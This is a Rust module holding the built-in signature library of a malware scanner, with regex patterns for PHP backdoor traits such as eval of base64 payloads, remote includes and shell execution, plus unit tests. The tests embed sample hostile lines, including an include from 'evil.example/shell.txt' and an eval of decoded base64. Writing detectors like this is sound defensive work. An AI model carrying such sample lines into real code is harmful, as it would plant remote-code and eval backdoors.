//! Signature pattern library.
//!
//! Holds the ordered set of regex signatures the analyzer runs against
//! file content, plus filename-shape checks and the entropy threshold.
//! Matching is pure; the library never touches the filesystem.

use crate::core::types::Severity;
use crate::detection::entropy::OBFUSCATION_THRESHOLD;
use regex::bytes::Regex;

/// One compiled detection signature.
#[derive(Debug, Clone)]
pub struct SignaturePattern {
    /// Stable identifier, recorded as finding evidence
    pub id: String,
    /// Human-readable description
    pub description: String,
    /// Compiled pattern, matched against raw file bytes
    pub regex: Regex,
    /// Severity a match carries
    pub severity: Severity,
    /// Whether this signature denotes a dangerous-function call; a
    /// dangerous hit escalates co-occurring obfuscation evidence
    pub dangerous: bool,
}

/// A single signature match on one buffer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SignatureHit {
    pub pattern_id: String,
    pub description: String,
    pub severity: Severity,
    pub dangerous: bool,
}

/// Ordered signature set plus the obfuscation heuristics' tuning.
#[derive(Debug, Clone)]
pub struct PatternLibrary {
    signatures: Vec<SignaturePattern>,
    filename_patterns: Vec<SignaturePattern>,
    entropy_threshold: f64,
}

impl Default for PatternLibrary {
    fn default() -> Self {
        Self::builtin()
    }
}

impl PatternLibrary {
    /// Build the library with the built-in signature set. Declaration
    /// order is match order and is part of the output contract.
    pub fn builtin() -> Self {
        let signatures = vec![
            pattern(
                "eval_base64",
                "eval of base64-decoded payload",
                r"(?i)eval\s*\(\s*base64_decode\s*\(",
                Severity::Critical,
                true,
            ),
            pattern(
                "eval_gzinflate",
                "eval of inflated payload",
                r"(?i)eval\s*\(\s*(?:gzinflate|gzuncompress|str_rot13)\s*\(",
                Severity::Critical,
                true,
            ),
            pattern(
                "preg_replace_eval",
                "preg_replace with /e execution modifier",
                r#"(?i)preg_replace\s*\(\s*['"][^'"]*/e['"]"#,
                Severity::Critical,
                true,
            ),
            pattern(
                "remote_include",
                "include/require of a remote URL",
                r#"(?i)(?:include|require)(?:_once)?\s*\(?\s*['"](?:https?|ftp)://"#,
                Severity::Critical,
                true,
            ),
            pattern(
                "shell_exec",
                "shell execution primitive",
                r"(?i)\b(?:shell_exec|passthru|proc_open|popen)\s*\(",
                Severity::High,
                true,
            ),
            pattern(
                "system_variable",
                "system() over attacker-controllable variable",
                r"(?i)\bsystem\s*\(\s*\$",
                Severity::High,
                true,
            ),
            pattern(
                "assert_variable",
                "assert() over a variable (eval equivalent)",
                r"(?i)\bassert\s*\(\s*\$",
                Severity::High,
                true,
            ),
            pattern(
                "packed_js",
                "Dean Edwards style packed JavaScript",
                r"eval\s*\(\s*function\s*\(p,a,c,k,e,[rd]\)",
                Severity::High,
                true,
            ),
            pattern(
                "hex_escaped_eval",
                "hex-escaped eval string construction",
                r"\\x65\\x76\\x61\\x6[Cc]",
                Severity::High,
                false,
            ),
            pattern(
                "base64_long_arg",
                "base64_decode with an oversized literal argument",
                r"(?i)base64_decode\s*\([^)]{100,}\)",
                Severity::High,
                false,
            ),
            pattern(
                "long_base64_literal",
                "suspiciously long base64 string literal",
                r#"['"](?:[A-Za-z0-9+/]{4}){100,}"#,
                Severity::Medium,
                false,
            ),
            pattern(
                "variable_concat_chain",
                "excessive string concatenation of variables",
                r"(?:\$[a-zA-Z_][a-zA-Z0-9_]*\s*\.\s*){10,}",
                Severity::Medium,
                false,
            ),
            pattern(
                "create_function",
                "runtime function construction",
                r"(?i)\bcreate_function\s*\(",
                Severity::Medium,
                false,
            ),
        ];

        let filename_patterns = vec![pattern(
            "random_php_name",
            "random eight-character PHP filename",
            r"(?i)^[a-z0-9]{8}\.php$",
            Severity::Medium,
            false,
        )];

        Self {
            signatures,
            filename_patterns,
            entropy_threshold: OBFUSCATION_THRESHOLD,
        }
    }

    /// Append caller-supplied signatures after the built-in set.
    pub fn register(&mut self, patterns: Vec<SignaturePattern>) {
        self.signatures.extend(patterns);
    }

    /// Override the entropy threshold.
    pub fn with_entropy_threshold(mut self, threshold: f64) -> Self {
        self.entropy_threshold = threshold;
        self
    }

    pub fn entropy_threshold(&self) -> f64 {
        self.entropy_threshold
    }

    pub fn len(&self) -> usize {
        self.signatures.len()
    }

    pub fn is_empty(&self) -> bool {
        self.signatures.is_empty()
    }

    /// Match every signature against the buffer, in declared order.
    /// At most one hit per (pattern, buffer) pair.
    pub fn match_signatures(&self, content: &[u8]) -> Vec<SignatureHit> {
        self.signatures
            .iter()
            .filter(|p| p.regex.is_match(content))
            .map(SignatureHit::from)
            .collect()
    }

    /// Whether any dangerous-function signature matches the buffer.
    pub fn has_dangerous_match(&self, content: &[u8]) -> bool {
        self.signatures
            .iter()
            .any(|p| p.dangerous && p.regex.is_match(content))
    }

    /// Check a bare filename against known backdoor name shapes.
    pub fn match_filename(&self, name: &str) -> Option<SignatureHit> {
        self.filename_patterns
            .iter()
            .find(|p| p.regex.is_match(name.as_bytes()))
            .map(SignatureHit::from)
    }
}

impl From<&SignaturePattern> for SignatureHit {
    fn from(p: &SignaturePattern) -> Self {
        Self {
            pattern_id: p.id.clone(),
            description: p.description.clone(),
            severity: p.severity,
            dangerous: p.dangerous,
        }
    }
}

fn pattern(
    id: &str,
    description: &str,
    regex: &str,
    severity: Severity,
    dangerous: bool,
) -> SignaturePattern {
    SignaturePattern {
        id: id.to_string(),
        description: description.to_string(),
        // Built-in patterns are compile-time constants; a failure here
        // is a programming error, caught by the test suite.
        regex: Regex::new(regex).unwrap_or_else(|e| panic!("bad signature {}: {}", id, e)),
        severity,
        dangerous,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_builtin_patterns_compile() {
        let lib = PatternLibrary::builtin();
        assert!(!lib.is_empty());
    }

    #[test]
    fn test_eval_base64_detected() {
        let lib = PatternLibrary::builtin();
        let hits = lib.match_signatures(b"<?php eval(base64_decode('aGVsbG8='));");
        assert_eq!(hits[0].pattern_id, "eval_base64");
        assert_eq!(hits[0].severity, Severity::Critical);
        assert!(hits[0].dangerous);
    }

    #[test]
    fn test_match_order_is_declaration_order() {
        let lib = PatternLibrary::builtin();
        // Triggers both eval_base64 and base64_long_arg.
        let long_arg = format!(
            "<?php eval(base64_decode('{}'));",
            "QUJDRA==".repeat(20)
        );
        let hits = lib.match_signatures(long_arg.as_bytes());
        let ids: Vec<&str> = hits.iter().map(|h| h.pattern_id.as_str()).collect();
        let eval_pos = ids.iter().position(|&i| i == "eval_base64");
        let arg_pos = ids.iter().position(|&i| i == "base64_long_arg");
        assert!(eval_pos.is_some() && arg_pos.is_some());
        assert!(eval_pos < arg_pos);
    }

    #[test]
    fn test_severity_independent_of_surrounding_content() {
        let lib = PatternLibrary::builtin();
        let padded = format!(
            "{}shell_exec($cmd);{}",
            "// harmless\n".repeat(50),
            "\n// trailer".repeat(50)
        );
        let hits = lib.match_signatures(padded.as_bytes());
        let hit = hits.iter().find(|h| h.pattern_id == "shell_exec").unwrap();
        assert_eq!(hit.severity, Severity::High);
    }

    #[test]
    fn test_clean_content_no_hits() {
        let lib = PatternLibrary::builtin();
        let hits = lib.match_signatures(b"<?php echo 'hello world'; ?>");
        assert!(hits.is_empty());
    }

    #[test]
    fn test_packed_js() {
        let lib = PatternLibrary::builtin();
        let hits = lib.match_signatures(b"eval(function(p,a,c,k,e,d){return p})");
        assert!(hits.iter().any(|h| h.pattern_id == "packed_js"));
    }

    #[test]
    fn test_remote_include() {
        let lib = PatternLibrary::builtin();
        let hits = lib.match_signatures(b"<?php include('http://evil.example/shell.txt');");
        assert!(hits.iter().any(|h| h.pattern_id == "remote_include"));
    }

    #[test]
    fn test_filename_shape() {
        let lib = PatternLibrary::builtin();
        assert!(lib.match_filename("x7f3k9q2.php").is_some());
        assert!(lib.match_filename("index.php").is_none());
        assert!(lib.match_filename("functions.php").is_none());
    }

    #[test]
    fn test_register_appends_after_builtin() {
        let mut lib = PatternLibrary::builtin();
        let builtin_len = lib.len();
        lib.register(vec![pattern(
            "custom_marker",
            "test-only marker",
            r"CUSTOM_MARKER_XYZ",
            Severity::Low,
            false,
        )]);
        assert_eq!(lib.len(), builtin_len + 1);

        let hits = lib.match_signatures(b"CUSTOM_MARKER_XYZ");
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].pattern_id, "custom_marker");
    }

    #[test]
    fn test_dangerous_match_flag() {
        let lib = PatternLibrary::builtin();
        assert!(lib.has_dangerous_match(b"eval(base64_decode($x));"));
        assert!(!lib.has_dangerous_match(b"echo create_function;"));
    }
}
